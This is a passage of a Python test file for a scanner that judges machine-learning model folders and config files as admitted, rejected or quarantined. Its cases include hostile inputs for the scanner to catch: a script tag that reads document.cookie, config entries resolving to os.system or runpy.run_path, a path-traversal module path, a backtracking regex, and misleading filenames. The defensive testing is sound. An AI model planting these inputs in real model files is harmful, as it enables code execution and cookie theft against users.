        ("vocab.json", '{"__class__": 1, "auto_map": 2, "\\u0085": 3}', "admitted"),
        ("config.json", '{"id2label": {"0": "<script>a</script>"}}', "rejected"),
        ("config.json", '{"x": {"<script>alert(document.cookie)</script>": {}}}', "rejected"),
        ("config.json", '{"num_attention_heads": [1, 2], "vocab_size": null}', "admitted"),
        ("config.json", '{"num_hidden_layers": 100000000}', "rejected"),
        ("config.json", '{"hidden_size": [4, "a"]}', "rejected"),
        ("config.json", '{"trust_remote_code": 1}', "rejected"),
        ("config.json", '{"activation_function": "runpy.run_path"}', "quarantined"),
        ("config.json", '{"activation_function": "torch.nn.modules.activation.Tanh"}', "admitted"),
        ("config.json", '{"layers": [{"module": "os", "class_name": "system"}]}', "rejected"),
        ("config.json", '{"attn_implementation": "owner/kernel"}', "rejected"),
        ("config.json", '{"text_config": {"_attn_implementation": "owner/a@v1:b"}}', "rejected"),
        ("config.json", '{"kernel_config": {"Norm": {"cuda": "owner/a:b"}}}', "rejected"),
        ("config.json", '{"attn_implementation": "sdpa", "kernel_size": 3}', "admitted"),
        ("config.json", '{"a": {"base_model_class": "A", "parent_library": "b"}}', "rejected"),
        ("adapter_config.json", '{"auto_mapping": {"base_model_class": "BertModel", '
         '"parent_library": "transformers.models.bert.modeling_bert"}}', "admitted"),
        ("adapter_config.json", '{"target_modules": "(a+)+$"}', "quarantined"),
        ("adapter_config.json", '{"target_modules": ".*(q|v)_proj"}', "admitted"),
        ("a.json", '{"__module__": "os", "__class__": "system"}', "rejected"),
        ("a.json", '{"__module__": "sklearn.svm", "__class__": "SVC"}', "quarantined"),
        ("modules.json", '[{"path": "../x", "type": "sentence_transformers.models.Pooling"}]',
         "rejected"),
        ("modules.json", '[{"path": "", "type": "sentence_transformers.util.import_from_string"}]',
         "rejected"),
        ("modules.json", '[{"path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]',
         "admitted"),
    ],
)  # fmt: skip
def test_texts_are_judged_by_what_they_are_for(name: str, text: str, expected: str) -> None:
    assert scan_bytes(text.encode(), name).outcome == expected


def test_names_in_a_folder_are_plain_and_end_as_documents_do(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    for name in ("LICENSE-MIT", "LICENSE.MIT", "README.zh-CN.md", "README_de.md"):
        (folder / name).write_text("a text\n")
    (folder / "spm.model").write_bytes(sentencepiece_bytes())
    assert scan_path(folder).outcome == "admitted"
    wrong = {"README.py", "LICENSE.sh", "NOTICE.pth", "README.ipynb"}
    for name in wrong:
        (folder / name).write_text("a text\n")
    odd = {"m\u043edel.safetensors", "-rf.safetensors", ".a.safetensors"}  # a Cyrillic letter
    for name in odd:
        (folder / name).write_bytes(safetensors_bytes())
    assert set(by_file(folder)) == wrong | odd
